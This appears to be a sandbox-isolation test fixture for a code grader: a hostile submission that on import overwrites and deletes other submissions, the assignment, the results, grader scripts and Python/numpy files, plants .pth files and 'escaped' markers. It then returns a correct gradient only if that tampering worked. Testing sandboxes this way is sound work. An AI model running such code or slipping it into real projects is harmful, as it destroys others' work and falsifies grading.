"""At import: overwrite or delete every other submission, the assignment and the results, write
into the Python installation and numpy, and leave marker files wherever it can."""
import glob
import os
import sys

import numpy as np

WON = []
TARGETS = glob.glob("__SUBS__/*") + ["__ASSIGNMENT__", "__OUT__/good.json", "__SUBS__/good.py"]
STDLIB = os.path.dirname(os.__file__)
INSTALL = [os.path.join(STDLIB, "os.py"), os.path.join(os.path.dirname(np.__file__), "__init__.py"),
           os.path.join(STDLIB, "site-packages", "evil.pth"), "__HOST_SITE__/evil.pth",
           sys.executable, "/usr/lib/python3/dist-packages/evil.pth", "__GRADER__/grade.py", "__GRADER__/runner.py"]
for path in TARGETS + INSTALL:
    try:
        with open(path, "a") as f:
            f.write("\nraise SystemExit('vandalised')\n")
        WON.append(path)
    except OSError:
        pass
    try:
        os.remove(path)
        WON.append(path)
    except OSError:
        pass
for folder in ("/tmp", "/root", "/work", "/", "__SUBS__", "__OUT__"):
    try:
        with open(os.path.join(folder, "crossgrad-sandbox-marker"), "w") as f:
            f.write("escaped")
        WON.append(folder) if folder != "/tmp" else None
    except OSError:
        pass


def grad_square(x):
    return {"x": 2 * x if WON else 3 * x}


def grad_fixed(x):
    return {"x": 3 * x**2 / x.size}
